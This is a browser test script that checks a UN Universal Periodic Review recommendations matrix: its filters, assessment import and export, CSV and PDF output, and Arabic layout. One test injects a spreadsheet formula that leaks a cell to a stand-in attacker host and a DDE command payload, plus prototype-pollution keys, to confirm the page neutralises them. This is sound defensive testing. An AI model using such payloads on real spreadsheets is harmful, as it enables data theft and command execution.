// The recommendations matrix in real Chromium, on the bundled toolkit (its
// 48 fictional recommendations): run by tests/testsuite/recommendations.rs with the
// path of the built site. Filters (and the counts they leave), the address
// that keeps them, order, readers' assessments (kept, saved to a file with
// who made them, a partner's file shown before it is added, then undone),
// the CSV downloads and print (which filters, whose assessments, how many
// sheets); from file:// and over http://, in English and Arabic.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { chromium } from "playwright-core";
import { executablePath, args, step, serve } from "./harness.mjs";

const site = process.argv[2];
// A site with 1,250 recommendations: a large matrix, whose rows come from
// its data script, 200 at most after a filter.
const big = process.argv[3];
assert.ok(site && big, "usage: recommendations.mjs PUBLIC_DIR BIG_PUBLIC_DIR");
const matrix = "recommendations/index.html";
const scratch = mkdtempSync(join(tmpdir(), "uprkit-recs-"));

const ready = (page) => page.waitForSelector("[data-rec-ready]", { state: "attached" });
const saved = (page) => page.waitForSelector("html:not([data-uprkit-saving])", { state: "attached" });
const count = (page) => page.locator("[data-rec-count]").textContent();
const visibleRows = (page) => page.locator("tr[data-id]:visible");
const hash = (page) => page.evaluate(() => location.hash);

async function open(context, url) {
  const page = await context.newPage();
  await page.goto(url);
  await ready(page);
  return page;
}

// The cells of a CSV file written by the page (quotes doubled, BOM first).
function parseCsv(text) {
  assert.equal(text.charCodeAt(0), 0xfeff, "starts with a byte order mark");
  const rows = [];
  let row = [], cell = "", quoted = false;
  for (let i = 1; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') { quoted = false; } else { cell += c; }
    } else if (c === '"') { quoted = true; }
    else if (c === ",") { row.push(cell); cell = ""; }
    else if (c === "\n") { row.push(cell); rows.push(row); row = []; cell = ""; }
    else if (c !== "\r") { cell += c; }
  }
  return rows;
}

// The page printed as Chromium prints it: its sheets' sizes and text.
async function printed(page, name) {
  const pdf = join(scratch, `${name}.pdf`);
  await page.pdf({ path: pdf, preferCSSPageSize: true });
  const info = execFileSync("pdfinfo", ["-f", "1", "-l", "999", pdf], { encoding: "utf8" });
  const pages = Number(/^Pages:\s+(\d+)/m.exec(info)[1]);
  const sizes = [...info.matchAll(/^Page\s+\d+ size:\s+([\d.]+) x ([\d.]+)/gm)].map((m) => [Number(m[1]), Number(m[2])]);
  const sheets = execFileSync("pdftotext", [pdf, "-"], { encoding: "utf8" }).split("\f").slice(0, pages)
    .map((sheet) => sheet.replace(/\s+/g, " ").trim());
  return { pages, sizes, sheets, text: sheets.join(" ") };
}

// Every sheet landscape and of one size, and none blank or holding only
// the page's footer (as a footer on a portrait page of its own did).
async function assertNoPadding(page, pdf) {
  const [width, height] = pdf.sizes[0];
  assert.ok(width > height && pdf.sizes.every(([w, h]) => w === width && h === height), `one landscape size: ${JSON.stringify(pdf.sizes)}`);
  const footer = new Set((await page.locator(".site-footer").textContent()).split(/\s+/).filter(Boolean));
  const padding = pdf.sheets.filter((sheet) => sheet === "" || sheet.split(" ").every((word) => footer.has(word)));
  assert.deepEqual(padding, [], "a sheet with nothing but the footer, or nothing");
}

// The reader's own assessment of the row `id`, made in the dialog.
async function assess(page, id, status, note) {
  await page.locator(`tr[data-id="${id}"] [data-rec-assess]`).click();
  await page.locator("[data-rec-dialog]").waitFor({ state: "visible" });
  await page.selectOption("#rec-assess-status", status);
  await page.fill("#rec-assess-note", note);
  await page.locator("[data-rec-save]").click();
  await page.locator(`tr[data-id="${id}"] [data-rec-own-text]:not(:empty)`).waitFor();
  await saved(page);
}

async function download(page, selector) {
  const [file] = await Promise.all([page.waitForEvent("download"), page.locator(selector).click()]);
  return readFileSync(await file.path(), "utf8");
}

const browser = await chromium.launch({ executablePath, args, headless: true });
const server = await serve(site);
try {
  for (const [scheme, base] of [["file://", null], ["http://", `http://127.0.0.1:${server.address().port}/`]]) {
    const url = (rel) => (base ? base + rel : "file://" + join(site, rel));
    const context = await browser.newContext({ acceptDownloads: true });
    let assessed = null;

    await step(`${scheme}: filters narrow the table and say how many are shown`, async () => {
      const page = await open(context, url(matrix));
      assert.equal(await count(page), "48 recommendations.");
      await page.selectOption("#rec-theme", "womens-rights");
      await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("9 of"));
      assert.equal(await count(page), "9 of 48 recommendations shown.");
      assert.equal(await visibleRows(page).count(), 9);
      assert.equal(await hash(page), "#theme=womens-rights");
      await page.close();
    });

    await step(`${scheme}: a filtered view is kept in the address, for a reload or a colleague`, async () => {
      const page = await open(context, url(matrix) + "#theme=womens-rights");
      await page.selectOption("#rec-response", "noted");
      await page.waitForFunction(() => location.hash === "#theme=womens-rights&response=noted");
      assert.equal(await count(page), "3 of 48 recommendations shown.");
      await page.reload();
      await ready(page);
      await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("3 of"));
      assert.equal(await page.locator("#rec-response").inputValue(), "noted");
      assert.equal(await page.locator("#rec-theme").inputValue(), "womens-rights");
      // The embed on a page links to the same view.
      const guide = await context.newPage();
      await guide.goto(url("follow-up/recommendations/index.html"));
      await guide.locator(".rec-more a").click();
      await ready(guide);
      await guide.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("3 of"));
      assert.equal(await visibleRows(guide).count(), 3);
      await guide.close();
      await page.close();
    });

    await step(`${scheme}: words, SDG goals and "Show all"`, async () => {
      const page = await open(context, url(matrix));
      await page.fill("#rec-q", "torture");
      await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.includes(" of "));
      const shown = await visibleRows(page).count();
      assert.ok(shown > 0 && shown < 48, `${shown} rows`);
      const hidden = await page.locator("tr[data-id]:not(:visible) .rec-text").allTextContents();
      assert.ok(hidden.every((text) => !/tortur/i.test(text)), "a row about torture was hidden");
      await page.fill("#rec-q", "");
      await page.selectOption("#rec-sdg", "5");
      await page.waitForFunction(() => location.hash === "#sdg=5");
      const metas = await page.locator("tr[data-id]:visible .rec-meta").allTextContents();
      assert.ok(metas.length > 0 && metas.every((meta) => /\b5\.\w/.test(meta)), metas.join("\n"));
      await page.locator("[data-rec-clear]").click();
      await page.waitForFunction(() => document.querySelectorAll("tr[data-id]:not([hidden])").length === 48);
      assert.equal(await hash(page), "", "no filter left in the address");
      await page.close();
    });

    await step(`${scheme}: order by recommending State, then back to themes`, async () => {
      const page = await open(context, url(matrix));
      await page.selectOption("#rec-sort", "state");
      await page.waitForFunction(() => document.querySelector(".rec-sorted") && !document.querySelector(".rec-sorted").hidden);
      const states = await page.locator("tr[data-id]:visible td:nth-child(2)").allTextContents();
      assert.equal(states.length, 48);
      const sorted = [...states].sort((a, b) => a.localeCompare(b, "en"));
      assert.deepEqual(states, sorted);
      assert.equal(await page.locator(".rec-group-head:visible").count(), 0, "theme headings hidden while ordered");
      await page.selectOption("#rec-sort", "");
      await page.waitForFunction(() => document.querySelector(".rec-sorted").hidden);
      assert.equal(await page.locator(".rec-group-head:visible").count(), 8);
      await page.close();
    });

    await step(`${scheme}: a reader's assessment is kept across a reload`, async () => {
      const page = await open(context, url(matrix) + "#theme=womens-rights");
      await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("9 of"));
      const row = visibleRows(page).first();
      assessed = await row.getAttribute("data-id");
      await row.locator("[data-rec-assess]").click();
      const dialog = page.locator("[data-rec-dialog]");
      await dialog.waitFor({ state: "visible" });
      await page.selectOption("#rec-assess-status", "partially-implemented");
      await page.fill("#rec-assess-note", "Bill tabled in March; not debated yet");
      await page.locator("[data-rec-save]").click();
      await dialog.waitFor({ state: "hidden" });
      const cell = page.locator(`tr[data-id="${assessed}"] [data-rec-own-text]`);
      assert.equal(await cell.textContent(), "Partially implemented: Bill tabled in March; not debated yet");
      await saved(page);
      await page.reload();
      await ready(page);
      assert.equal(await cell.textContent(), "Partially implemented: Bill tabled in March; not debated yet");
      await page.close();
    });

    await step(`${scheme}: assessments saved to a file with who made them; a partner's shown before it is added, then undone`, async () => {
      const page = await open(context, url(matrix));
      const file = JSON.parse(await download(page, "[data-rec-export]"));
      assert.equal(file.uprkit, "assessments");
      assert.equal(file.assessments[assessed].n, "Bill tabled in March; not debated yet");
      assert.equal(file.assessments[assessed].s, "partially-implemented");
      assert.equal(file.by, "Example Rights Network", "the organisation of the site's brand");
      assert.match(file.saved, /^\d{4}-\d{2}-\d{2}$/);
      assert.equal(await page.locator("[data-rec-org-field]").isVisible(), false, "not asked: the site says it");
      // Two rows the reader has not assessed.
      const [other, third] = (await page.locator("tr[data-id]").evaluateAll((rows) => rows.slice(5).map((row) => row.getAttribute("data-id"))))
        .filter((id) => id !== assessed);
      const own = (id) => page.locator(`tr[data-id="${id}"] [data-rec-own-text]`).textContent();
      const stored = () => page.evaluate(() => localStorage.getItem(`uprkit:${document.documentElement.getAttribute("data-uprkit-site")}:assessments`) || "");
      const preview = page.locator("[data-rec-preview]");
      const parts = () => page.locator("[data-rec-preview-part] h3").allTextContents();
      const theirs = join(scratch, `theirs-${scheme.slice(0, 4)}.json`);
      writeFileSync(theirs, JSON.stringify({ uprkit: "assessments", by: "Partner <b>NGO</b> {date} $&", saved: "2026-12-01", assessments: { [other]: { s: "fully-implemented", n: "Law adopted", d: "2026-11-30" }, "NO-SUCH-ID": { s: "unknown", n: "" } } }));
      await page.locator("[data-rec-import]").setInputFiles(theirs);
      await preview.waitFor({ state: "visible" });
      assert.equal(await page.locator("[data-rec-preview-from]").textContent(), "From: Partner <b>NGO</b> {date} $&, saved 2026-12-01", "the file's words, as text");
      assert.deepEqual(await parts(), ["New, not assessed here (1)"]);
      assert.ok((await preview.textContent()).includes("1 entries of the file were left out"));
      assert.equal(await own(other), "", "nothing kept before Apply");
      assert.ok(!(await stored()).includes(other), "nor in the store");
      await page.locator("[data-rec-apply]").click();
      await page.waitForFunction(() => document.querySelector("[data-rec-status]").textContent !== "");
      assert.equal(await page.locator("[data-rec-status]").textContent(),
        "1 assessments added from the file. 1 entries of the file were left out: they are not assessments of this page's recommendations.");
      assert.equal(await own(other), "Fully implemented: Law adopted");
      assert.equal(await preview.isVisible(), false);
      await saved(page);
      // A later file: newer than one of mine, older than another, and a new one.
      const later = join(scratch, `later-${scheme.slice(0, 4)}.json`);
      writeFileSync(later, JSON.stringify({ uprkit: "assessments", by: "Partner NGO", saved: "2026-12-02", assessments: {
        [other]: { s: "partially-implemented", n: "Decree pending", d: "2099-01-01" },
        [assessed]: { s: "not-implemented", n: "Old news", d: "2020-01-01" },
        [third]: { s: "unknown", n: "Asked the ministry", d: "2026-12-02" } } }));
      await page.locator("[data-rec-import]").setInputFiles(later);
      await page.waitForFunction(() => document.querySelector("[data-rec-preview-from]").textContent.includes("2026-12-02"));
      assert.deepEqual(await parts(), ["New, not assessed here (1)", "Newer than yours (or of the same date): replaces yours (1)",
        "Older than yours: yours is kept (1)"]);
      assert.ok((await preview.textContent()).includes("instead of Fully implemented: Law adopted (2026-11-30)"));
      assert.equal(await own(third), "", "nothing kept before Apply");
      await page.locator("[data-rec-apply]").click();
      await page.locator(`tr[data-id="${third}"] [data-rec-own-text]:not(:empty)`).waitFor();
      assert.equal(await own(other), "Partially implemented: Decree pending");
      assert.equal(await own(assessed), "Partially implemented: Bill tabled in March; not debated yet", "mine is newer");
      await saved(page);
      await page.locator("[data-rec-undo]").click();
      await page.waitForFunction((id) => document.querySelector(`tr[data-id="${id}"] [data-rec-own-text]`).textContent === "", third);
      assert.equal(await own(other), "Fully implemented: Law adopted", "as it was before the file");
      assert.equal(await page.locator("[data-rec-undo]").isVisible(), false);
      await saved(page);
      assert.ok(!(await stored()).includes(third) && (await stored()).includes("Law adopted"), "in the store too");
      await page.reload();
      await ready(page);
      assert.equal(await own(other), "Fully implemented: Law adopted");
      assert.equal(await own(third), "");
      // Cancel keeps nothing.
      await page.locator("[data-rec-import]").setInputFiles(later);
      await preview.waitFor({ state: "visible" });
      await page.locator("[data-rec-cancel]").click();
      assert.equal(await preview.isVisible(), false);
      assert.equal(await own(third), "");
      await page.locator("[data-rec-import]").setInputFiles({ name: "notes.json", mimeType: "application/json", buffer: Buffer.from("{\"hello\": 1}") });
      await page.waitForFunction(() => document.querySelector("[data-rec-status]").textContent.startsWith("This file is not"));
      await saved(page);
      await page.close();
    });

    await step(`${scheme}: the view as CSV, and the assessment in OHCHR's matrix layout`, async () => {
      const page = await open(context, url(matrix) + "#theme=womens-rights");
      await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("9 of"));
      const view = parseCsv(await download(page, "[data-rec-csv]"));
      assert.equal(view.length, 10, "a header and the 9 rows shown");
      assert.deepEqual(view[0].slice(0, 3), ["id", "text", "recommending_state"]);
      const mine = view.find((row) => row[0] === assessed);
      assert.equal(mine[view[0].indexOf("your_note")], "Bill tabled in March; not debated yet");
      const ohchr = parseCsv(await download(page, "[data-rec-ohchr]"));
      // The sample has a plan: its columns follow OHCHR's.
      assert.deepEqual(ohchr[0], ["Recommendation", "Position", "Full list of themes", "Assessment/comments on level of implementation",
        "Affected persons", "Relevant SDGs", "Responsible", "Planned action", "Indicator", "Target date"]);
      const planned = ohchr.find((row) => row[0].includes("explicitly criminalize marital rape"));
      assert.deepEqual(planned.slice(6), ["Ministry of Justice", "Table the amendment to the Penal Code in Parliament",
        "Amendment adopted and in force", "2027-12"]);
      assert.equal(view.find((row) => row[1].includes("explicitly criminalize marital rape"))[view[0].indexOf("target_date")], "2027-12");
      assert.ok(view[0].includes("affected_persons") && view[0].includes("sdg_goals"), "the view has what the data has");
      assert.equal(ohchr.length, 10);
      assert.ok(ohchr.some((row) => row[3] === "Partially implemented: Bill tabled in March; not debated yet"));
      assert.ok(ohchr.slice(1).every((row) => /\(.+\)$/.test(row[0])), "each recommendation ends with its State, as OHCHR writes it");
      await page.close();
    });

    await step(`${scheme}: theme headings and each filter's choices count what the other filters leave`, async () => {
      const page = await open(context, url(matrix));
      const option = (select, value) => page.locator(`#rec-${select} option[value="${value}"]`).textContent();
      const sum = (texts) => texts.reduce((total, text) => total + Number(/\((\d+)\)$/.exec(text)[1]), 0);
      assert.equal(await option("response", "noted"), "Noted (14)");
      await page.selectOption("#rec-theme", "womens-rights");
      await page.waitForFunction(() => location.hash === "#theme=womens-rights");
      const responses = await page.locator("#rec-response option:not([value=''])").allTextContents();
      assert.equal(sum(responses), 9, `the responses of the 9 on women's rights: ${responses}`);
      assert.equal(await option("response", "noted"), "Noted (3)");
      await page.selectOption("#rec-response", "noted");
      await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("3 of"));
      assert.equal(await option("theme", "womens-rights"), "Women's rights (3)", "the noted ones of the theme");
      assert.equal(await page.locator("#rec-theme").inputValue(), "womens-rights", "the choice stays chosen");
      assert.ok(sum(await page.locator("#rec-theme option:not([value=''])").allTextContents()) >= 14, "each theme's noted ones");
      // Each heading: "(n of m)", n the rows shown under it.
      const heads = await page.locator(".rec-group:visible").evaluateAll((bodies) => bodies.map((body) =>
        [body.querySelector(".rec-group-head .count").textContent, body.querySelectorAll("tr[data-id]:not([hidden])").length]));
      assert.ok(heads.length > 0);
      for (const [said, shown] of heads) {
        const m = /^\((\d+) of (\d+)\)$/.exec(said);
        assert.ok(m && Number(m[1]) === shown && Number(m[2]) >= shown, `${said} over ${shown} rows`);
      }
      assert.equal(heads.reduce((total, head) => total + head[1], 0), 3);
      await page.locator("[data-rec-clear]").click();
      await page.waitForFunction(() => document.querySelectorAll("tr[data-id]:not([hidden])").length === 48);
      assert.equal(await page.locator("[data-rec-clear]").textContent(), "Clear filters");
      assert.equal(await option("response", "noted"), "Noted (14)", "every row's counts again");
      assert.equal(await page.locator('.rec-group[data-group="womens-rights"] .rec-group-head .count').textContent(), "(8)");
      const top = (selector) => page.locator(selector).evaluate((el) => el.getBoundingClientRect().top);
      assert.ok(await top("[data-rec-filters]") < await top(".rec-themes"), "the filters above the list of themes");
      await page.close();
    });

    await step(`${scheme}: a filtered view prints on one or two landscape sheets, with its filters and the reader's assessments`, async () => {
      const view = url(matrix) + "#theme=womens-rights&response=noted";
      // A reader with no assessment gets a column to write in.
      const fresh = await browser.newContext();
      const blank = await open(fresh, view);
      await blank.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("3 of"));
      let pdf = await printed(blank, `blank-${scheme.slice(0, 4)}`);
      assert.ok(pdf.text.includes("Filters: Theme = Women's rights; Response = Noted"), pdf.text);
      assert.ok(pdf.text.includes("Assessment (to write by hand)") && !pdf.text.includes("Your assessment"), pdf.text);
      assert.ok(pdf.pages <= 2, `${pdf.pages} sheets for 3 recommendations`);
      await assertNoPadding(blank, pdf);
      await fresh.close();
      // With one of the reader's: its status, note and date.
      const page = await open(context, view);
      await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("3 of"));
      const id = await visibleRows(page).last().getAttribute("data-id");
      await assess(page, id, "not-implemented", "No bill yet");
      pdf = await printed(page, `mine-${scheme.slice(0, 4)}`);
      assert.ok(pdf.text.includes("Filters: Theme = Women's rights; Response = Noted"), pdf.text);
      assert.ok(pdf.text.includes("No bill yet") && pdf.text.includes(new Date().toISOString().slice(0, 10)), pdf.text);
      assert.ok(pdf.text.includes("Your assessment") && !pdf.text.includes("write by hand"), pdf.text);
      assert.ok(!pdf.text.includes("Responses by theme"), "no chart of every recommendation under a filtered view");
      assert.ok(pdf.pages <= 2, `${pdf.pages} sheets for 3 recommendations`);
      await assertNoPadding(page, pdf);
      await page.close();
    });
    await context.close();
  }

  await step("a partner's note a spreadsheet would run as a formula is written as text in both CSVs", async () => {
    const context = await browser.newContext({ acceptDownloads: true });
    const page = await open(context, "file://" + join(site, matrix) + "#theme=womens-rights");
    await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("9 of"));
    const [first, second] = await visibleRows(page).evaluateAll((rows) => rows.slice(0, 2).map((row) => row.getAttribute("data-id")));
    const link = '=HYPERLINK("http://evil.example/?leak="&A1,"Read the report")';
    const command = "+cmd|' /C calc'!A0";
    const theirs = join(scratch, "formulas.json");
    writeFileSync(theirs, JSON.stringify({ uprkit: "assessments", assessments: { [first]: { s: "", n: link, d: "2026-12-01" }, [second]: { s: "unknown", n: command, d: "2026-12-01" } } }));
    await page.locator("[data-rec-import]").setInputFiles(theirs);
    await page.locator("[data-rec-apply]").click();
    await page.waitForFunction(() => document.querySelector("[data-rec-status]").textContent.startsWith("2 assessments"));
    assert.equal(await page.locator(`tr[data-id="${first}"] [data-rec-own-text]`).textContent(), link, "the page shows it as written");
    const view = parseCsv(await download(page, "[data-rec-csv]"));
    const note = view[0].indexOf("your_note");
    assert.equal(view.find((row) => row[0] === first)[note], "'" + link);
    assert.equal(view.find((row) => row[0] === second)[note], "'" + command);
    assert.ok(view.every((row) => !/^[=+\-@\t\r]/.test(row.join(""))), "no cell starts a formula");
    const ohchr = parseCsv(await download(page, "[data-rec-ohchr]"));
    assert.ok(ohchr.some((row) => row[3] === "'" + link), "the assessment without a status is the note alone, disarmed");
    await context.close();
  });

  await step("Arabic: right to left, filtered, with the reader's assessments in Arabic", async () => {
    const context = await browser.newContext();
    const page = await open(context, "file://" + join(site, "ar", matrix));
    assert.equal(await page.getAttribute("html", "dir"), "rtl");
    await page.selectOption("#rec-response", "noted");
    await page.waitForFunction(() => location.hash === "#response=noted");
    const said = await count(page);
    assert.ok(said.includes("14") && said.includes("48") && /[\u0600-\u06ff]/.test(said), said);
    assert.equal(await visibleRows(page).count(), 14);
    const row = visibleRows(page).first();
    await row.locator("[data-rec-assess]").click();
    await page.selectOption("#rec-assess-status", "not-implemented");
    await page.locator("[data-rec-save]").click();
    // The dialog's close event, which keeps the assessment, comes a moment after the click.
    await row.locator("[data-rec-own-text]:not(:empty)").waitFor();
    const text = await row.locator("[data-rec-own-text]").textContent();
    assert.ok(/[\u0600-\u06ff]/.test(text), `the status in Arabic: ${text}`);
    await saved(page);
    const head = await page.locator(".rec-group:visible .rec-group-head .count").first().textContent();
    assert.match(head, /^\(\d+ من \d+\)$/, "a heading's count in Arabic");
    const filters = await page.locator("[data-rec-print-filters]").textContent();
    assert.ok(filters.startsWith("عوامل التصفية: ") && filters.includes(" = "), filters);
    const pdf = await printed(page, "arabic");
    // 14 long rows with the data's assessments fill four sheets.
    assert.ok(pdf.pages <= 4, `${pdf.pages} sheets for 14 recommendations`);
    assert.ok(pdf.text.includes("عوامل التصفية"), "the filters, in Arabic");
    await assertNoPadding(page, pdf);
    await context.close();
  });

  await step("each response badge stays inside its column, from a wide screen to a narrow one, in the six languages", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    for (const lang of ["", "fr/", "es/", "ar/", "ru/", "zh/"]) {
      await page.goto("file://" + join(site, lang, matrix));
      await ready(page);
      for (const width of [1400, 1000, 700]) {
        await page.setViewportSize({ width, height: 900 });
        const outside = await page.locator(".rec-matrix-full .rec-badge").evaluateAll((badges) => badges
          .filter((badge) => {
            const own = badge.getBoundingClientRect();
            const cell = badge.closest("td").getBoundingClientRect();
            return own.left < cell.left - 0.5 || own.right > cell.right + 0.5;
          })
          .map((badge) => badge.textContent));
        assert.deepEqual(outside, [], `${lang || "en/"} at ${width} px: badges wider than their column`);
      }
    }
    await context.close();
  });

  await step("a malformed file of assessments is refused entry by entry, says so, and the page keeps working", async () => {
    const context = await browser.newContext({ acceptDownloads: true });
    const page = await open(context, "file://" + join(site, matrix));
    const errors = [];
    page.on("pageerror", (error) => errors.push(error.message));
    const ids = await page.locator("tr[data-id]").evaluateAll((rows) => rows.slice(0, 4).map((row) => row.getAttribute("data-id")));
    // Written by hand: JSON.stringify would not keep a "__proto__" key.
    const entries = [
      [ids[0], { s: "x\"]", n: "a status that is none" }],
      ["constructor", { s: "unknown", n: "not a recommendation" }],
      ["toString", { s: "unknown" }],
      ["__proto__", { s: "unknown", n: "not one either" }],
      [ids[1], { s: "fully-implemented", n: { text: "a note that is no text" } }],
      [ids[2], { s: "partially-implemented", n: "Dated", d: "last week" }],
      [ids[3], { s: "not-implemented", n: "Nothing done yet", d: "2026-12-01" }],
    ].map(([id, value]) => `${JSON.stringify(id)}: ${JSON.stringify(value)}`).join(", ");
    const malformed = join(scratch, "malformed.json");
    writeFileSync(malformed, `{"uprkit": "assessments", "assessments": {${entries}}}`);
    await page.locator("[data-rec-import]").setInputFiles(malformed);
    await page.locator("[data-rec-preview]").waitFor({ state: "visible" });
    assert.ok((await page.locator("[data-rec-preview]").textContent()).includes("6 entries of the file were left out"));
    await page.locator("[data-rec-apply]").click();
    await page.waitForFunction(() => document.querySelector("[data-rec-status]").textContent !== "");
    assert.equal(await page.locator("[data-rec-status]").textContent(),
      "1 assessments added from the file. 6 entries of the file were left out: they are not assessments of this page's recommendations.");
    assert.equal(await page.locator(`tr[data-id="${ids[3]}"] [data-rec-own-text]`).textContent(), "Not implemented: Nothing done yet");
    for (const id of ids.slice(0, 3)) {
      assert.equal(await page.locator(`tr[data-id="${id}"] [data-rec-own-text]`).textContent(), "", id);
    }
    // The page still filters, orders, edits and downloads.
    await page.selectOption("#rec-sort", "assessment");
    await page.waitForFunction(() => document.querySelector(".rec-sorted") && !document.querySelector(".rec-sorted").hidden);
    assert.equal(await visibleRows(page).first().getAttribute("data-id"), ids[3], "the assessed one first");
    const view = parseCsv(await download(page, "[data-rec-csv]"));
    assert.equal(view.length, 49);
    await page.selectOption("#rec-sort", "");
    await visibleRows(page).nth(1).locator("[data-rec-assess]").click();
    await page.selectOption("#rec-assess-status", "unknown");
    await page.locator("[data-rec-save]").click();
    await page.locator(`tr[data-id="${ids[1]}"] [data-rec-own-text]:not(:empty)`).waitFor();
    // Nor is a file whose assessments are not a list by id.
    for (const [name, text] of [["null.json", "{\"uprkit\": \"assessments\", \"assessments\": null}"],
      ["list.json", "{\"uprkit\": \"assessments\", \"assessments\": [{\"s\": \"unknown\"}]}"]]) {
      await page.locator("[data-rec-status]").evaluate((el) => { el.textContent = ""; });
      await page.locator("[data-rec-import]").setInputFiles({ name, mimeType: "application/json", buffer: Buffer.from(text) });
      await page.waitForFunction(() => document.querySelector("[data-rec-status]").textContent.startsWith("This file is not"));
    }
    await saved(page);
    await page.reload();
    await ready(page);
    assert.equal(await page.locator(`tr[data-id="${ids[3]}"] [data-rec-own-text]`).textContent(), "Not implemented: Nothing done yet");
    // What an older version let in is left out when the store gives it back
    // (from file://, Chromium's pages and the store share one localStorage).
    await page.evaluate(([bad, good]) => {
      const key = `uprkit:${document.documentElement.getAttribute("data-uprkit-site")}:assessments`;
      localStorage.setItem(key, `{"constructor": {"s": "unknown"}, ${JSON.stringify(bad)}: {"s": "x\\"]"}, ${JSON.stringify(good)}: {"s": "unknown", "n": "Still kept"}}`);
    }, [ids[0], ids[3]]);
    await page.reload();
    await ready(page);
    assert.equal(await page.locator(`tr[data-id="${ids[3]}"] [data-rec-own-text]`).textContent(), "Unknown: Still kept");
    assert.equal(await page.locator(`tr[data-id="${ids[0]}"] [data-rec-own-text]`).textContent(), "");
    assert.deepEqual(errors, [], "no error in the page");
    await context.close();
  });

  await step("1,250 recommendations, a large matrix: the page links each theme to its page; the script shows 200 rows, then every match", async () => {
    const context = await browser.newContext({ acceptDownloads: true });
    const errors = [];
    const page = await context.newPage();
    page.on("pageerror", (error) => errors.push(String(error)));
    await page.goto("file://" + join(big, matrix));
    await ready(page);
    assert.equal(await visibleRows(page).count(), 200, "the first 200 rows, made from the data script");
    assert.equal(await page.locator(".rec-group-more").count(), 0, "the links to the theme pages give way to the rows");
    assert.equal(await page.locator("tr[data-id]:visible [data-rec-own-text]").count(), 200, "each with the reader's cell");
    await page.selectOption("#rec-response", "supported");
    await page.waitForFunction(() => location.hash === "#response=supported");
    const said = await count(page);
    const matching = Number(/^(\d+) of 1250/.exec(said)[1]);
    assert.ok(matching > 200, said);
    assert.equal(await visibleRows(page).count(), 200);
    const more = page.locator("[data-rec-more]");
    assert.equal(await more.textContent(), `Show all (${matching})`);
    const view = parseCsv(await download(page, "[data-rec-csv]"));
    assert.equal(view.length, matching + 1, "the download has every match");
    assert.ok(view.slice(1).every((row) => row[6] === "Supported"), "each with its response's label");
    await more.click();
    assert.equal(await visibleRows(page).count(), matching);
    assert.equal(await more.isVisible(), false);
    // A State's rows, ordered by paragraph: still every match.
    await page.selectOption("#rec-response", "");
    await page.selectOption("#rec-state", "State 3");
    await page.selectOption("#rec-sort", "paragraph");
    await page.waitForFunction(() => /sort=paragraph/.test(location.hash));
    const state = Number(/^(\d+) of 1250/.exec(await count(page))[1]);
    assert.equal(await visibleRows(page).count(), Math.min(state, 200));
    assert.ok((await visibleRows(page).first().locator("td").nth(1).textContent()).includes("State 3"));
    assert.deepEqual(errors, [], "no error in the page");
    await context.close();
  });

  await step("where the site names no organisation, the reader's, typed once, is kept and named in their file", async () => {
    const context = await browser.newContext({ acceptDownloads: true });
    const page = await open(context, "file://" + join(big, matrix));
    const field = page.locator("[data-rec-org-input]");
    assert.equal(await field.isVisible(), true, "asked: the site has no brand");
    await field.fill("Coalition for the UPR");
    await field.dispatchEvent("change");
    await saved(page);
    await page.reload();
    await ready(page);
    assert.equal(await field.inputValue(), "Coalition for the UPR", "kept in the store");
    const file = JSON.parse(await download(page, "[data-rec-export]"));
    assert.equal(file.by, "Coalition for the UPR");
    await context.close();
  });

  await step("print: landscape sheets, one theme per sheet, without the controls", async () => {
    const context = await browser.newContext();
    const page = await open(context, "file://" + join(site, matrix));
    const pdf = join(scratch, "matrix.pdf");
    await page.pdf({ path: pdf, preferCSSPageSize: true });
    const box = /\/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]/.exec(readFileSync(pdf, "latin1"));
    assert.ok(box && Number(box[1]) > Number(box[2]), `landscape: ${box && box.slice(1)}`);
    const sheets = execFileSync("pdftotext", ["-layout", pdf, "-"], { encoding: "utf8" }).split("\f").filter((s) => s.trim());
    const heads = (await page.locator(".rec-group-head th").allTextContents()).map((head) => head.replace(/\s+/g, " ").trim());
    assert.equal(heads.length, 8);
    const flat = sheets.map((sheet) => sheet.replace(/\s+/g, " "));
    for (const head of heads) {
      assert.equal(flat.filter((sheet) => sheet.includes(head)).length, 1, `${head} heads one sheet`);
    }
    assert.ok(flat.every((sheet) => heads.filter((head) => sheet.includes(head)).length <= 1), "one theme per sheet");
    // Every sheet with rows of the table (their ids: SOL-4-12), after the first.
    const tableSheets = flat.filter((sheet) => /SOL-\d-\d\d/.test(sheet)).slice(1);
    assert.ok(tableSheets.length >= 8, `${tableSheets.length} sheets of the table`);
    assert.ok(tableSheets.every((sheet) => sheet.includes("Recommending") && sheet.includes("Response")), "the column headings on every sheet");
    assert.ok(!sheets.join("\n").includes("Show only"), "the filters are not printed");
    assert.ok(!sheets.join("\n").includes("Save assessments to a file"), "the buttons are not printed");
    assert.ok(sheets.join("\n").includes("All recommendations (no filter)."), "paper says there is no filter");
    await assertNoPadding(page, await printed(page, "whole"));
    await context.close();
  });
} finally {
  server.close();
  await browser.close();
}
